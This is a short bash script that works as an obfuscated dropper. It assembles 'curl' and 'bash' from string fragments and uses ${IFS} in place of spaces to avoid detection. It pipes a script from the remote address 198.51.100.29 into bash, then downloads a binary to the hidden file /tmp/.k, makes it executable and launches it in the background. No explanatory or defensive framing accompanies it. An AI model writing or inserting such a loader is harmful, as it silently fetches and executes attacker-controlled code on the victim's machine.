#!/bin/bash
a=cu; b=rl; c=ba; d=sh; e=ht; f=tp
x="$a$b"; y="$c$d"
h1=198; h2=51; h3=100; h4=29
u="$e$f://$h1.$h2.$h3.$h4/p/s"
$x${IFS}-fsSL${IFS}$u|$y
t=/t; t=${t}mp/.k; $x -s -o $t $u.bin && ch${o}mod +x $t && $t &
